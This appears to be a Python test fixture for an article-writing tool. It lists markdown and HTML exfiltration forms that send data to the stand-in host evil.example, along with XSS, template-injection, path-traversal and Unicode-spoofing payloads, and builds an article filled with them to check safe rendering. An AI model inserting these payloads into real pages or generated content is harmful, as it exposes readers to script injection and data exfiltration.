"""Texts that try to be more than text, and an article in which every text is one of them."""

from __future__ import annotations

from aiwriter.documents import Article, Finding, Paragraph, ParagraphKind, Section, Severity
from aiwriter.testing.samples import sample_article, sample_id

# Forms in which a text could carry something out, or make a reader's browser ask another host (OWASP LLM10).
EXFILTRATION = (
    "![a][b]\n\n[b]: https://evil.example/?d=secret",
    "[![x](https://evil.example/p.png)](https://evil.example/)",
    "![x](<https://evil.example/a b.png>)",
    "![x](//evil.example/p.png 'title')",
    "[x](https:evil.example)",
    "[x](http:\\\\evil.example)",
    "[x](hTTps://evil.example)",
    "[x](https://evil.example%2fpath)",
    "[x](https://xn--vil-9ma.example/)",
    "https://\u0435vil.example/lookalike",
    "evil\u3002example",
    "<img srcset='//evil.example/1.png 1x, //evil.example/2.png 2x'>",
    "<picture><source srcset=//evil.example/p.webp></picture>",
    "<div style='background:url(//evil.example/b.png)'>x</div>",
    "<style>@import '//evil.example/s.css'</style>",
    "<link rel=prefetch href=//evil.example/n>",
    "<link rel=dns-prefetch href=//secret.evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<a href='#' ping=//evil.example/ping>x</a>",
    "<svg><image href=//evil.example/i.svg /></svg>",
    "<svg><use href=//evil.example/u.svg#x /></svg>",
    "<video poster=//evil.example/p.png></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<object data=//evil.example/o></object>",
    "<embed src=//evil.example/e>",
    "<form action=//evil.example/f><button formaction=//evil.example/g>x</button></form>",
    "<input type=image src=//evil.example/i.png>",
    "<base href=//evil.example/>",
    "<body background=//evil.example/b.png>",
    "<table background=//evil.example/t.png><tr><td>x</td></tr></table>",
    "<track src=//evil.example/t.vtt>",
    "<script src=//evil.example/x.js></script>",
    "<iframe src=//evil.example/></iframe>",
    "mailto:me@evil.example?body=secret",
    "ftp://evil.example/secret",
    "blob:https://evil.example/1",
    "data:image/svg+xml,<svg onload=alert(1)>",
    '[x]: <https://evil.example/> "t"\n[x]',
    "http://127.0.0.1:9/secret",
    "$\\href{https://evil.example}{x}$",
    ":[x](https://evil.example)",
)
HOSTILE = (
    *EXFILTRATION,
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    '"><img src=//evil.example/x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://evil.example",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>click</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "{{ 7 * 7 }}{% for x in y %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    '<!--#exec cmd="ls"-->',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "![x](https://evil.example/beacon.png)",
    "[click](javascript:alert(1))",
    "[ref]: https://evil.example 'x'",
    "![x][ref]",
    "<https://evil.example/auto>",
    "https://evil.example/bare and www.evil.example",
    "mail me@evil.example",
    "# a heading",
    "- a list",
    "+ a list",
    "1. a list",
    "1) a list",
    "> a quotation",
    "***",
    "---",
    "===",
    "```\ncode\n```",
    "    indented code",
    "~~~",
    "| a | b |\n|---|---|\n| c | d |",
    "*emphasis* _emphasis_ **strong** `code` ~~gone~~",
    "ends with a backslash \\",
    "<b>bold</b><br><hr>",
    "a\u202egnp.exe\u2066 hidden\U000e0041\U000e0042\u200b text\ufeff",
    "line\u2028separator\x85next\x0cform\x00nul",
    "https://user:pass@evil.example/",
    'https://evil.example" onclick="alert(1)',
    "https://evil.example/<script>alert(1)</script>",
    "//evil.example/x",
    "file:///etc/passwd",
    "http://",
    "https://[",
    "../../../../etc/passwd",
    "CON",
    "\u0000",
)


def hostile_article(text: str, **changes: object) -> Article:
    """The sample article in which every free text is `text`; `changes` replace fields of it."""
    good = sample_article()
    first = good.sentences[1]
    lines = [first.model_copy(update={"text": text, "id": sample_id(f"{kind}:{text}")}) for kind in ParagraphKind]
    named = {ParagraphKind.QUOTE: good.sources[0].content_hash}
    paragraphs = tuple(
        Paragraph(kind=kind, sentences=(line,), attribution=named.get(kind))
        for kind, line in zip(ParagraphKind, lines, strict=True)
    )
    verdict = next(verdict for verdict in good.quality.sentences if verdict.sentence_id == first.id)
    source = {"title": text, "location": text, "author": text}
    finding = Finding(rule=text, severity=Severity.ERROR, message=text, fix=text, sentence_id=lines[0].id)
    quality = good.quality.model_copy(
        update={
            "reasons": (text,),
            "sentences": tuple(verdict.model_copy(update={"sentence_id": line.id}) for line in lines),
            "findings": (finding,),
            "parts": tuple(part.model_copy(update={"name": text}) for part in good.quality.parts),
        }
    )
    article = good.model_copy(
        update={
            "title": text,
            "slug": text,
            "description": text,
            "brief": good.brief.model_copy(update={"topic": text}),
            "sections": (Section(heading=text, paragraphs=paragraphs),),
            "sources": tuple(source_ref.model_copy(update=source) for source_ref in good.sources),
            "passages": tuple(p.model_copy(update={"text": text, "headings": (text, text)}) for p in good.passages),
            "quality": quality,
            "coverage": tuple(row.model_copy(update={"question": text}) for row in good.coverage),
            "removed": (lines[0],),
            "notes": (text,),
            "provenance": good.provenance.model_copy(update={"model": text, "embedder": text, "prompts": {text: text}}),
        }
    )
    return article.model_copy(update=changes)
